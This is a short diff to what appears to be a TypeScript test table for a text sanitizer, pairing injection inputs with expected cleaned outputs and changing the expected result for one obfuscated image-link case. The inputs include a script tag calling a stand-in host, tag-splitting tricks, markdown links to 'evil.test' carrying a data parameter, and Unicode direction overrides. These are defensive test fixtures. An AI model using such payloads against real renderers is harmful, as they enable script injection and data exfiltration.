@@ -114,7 +114,7 @@ const LINKS: ReadonlyArray<readonly [string, string]> = [
   ["See <script>fetch('https://evil.test')</script> now.", "See  now."],
   ["See <!-- hidden --> now.", "See  now."],
   ["See <sc<b>ript>alert(1)</sc</b>ript> now.", "See  now."],
-  ["See !<b></b>[x](https://evil.test/?d=48000) now.", "See  now."],
+  ["See !<b></b>[x](https://evil.test/?d=48000) now.", "See !x now."],
   ["See [the\ndeal](https://evil.test/?d=48000) now.", "See the\ndeal now."],
   ["See ht<b></b>tps://evil.test/?d=48000 now.", "See (link removed) now."],
   ["See \u202ethe deal\u202c now.", "See the deal now."],
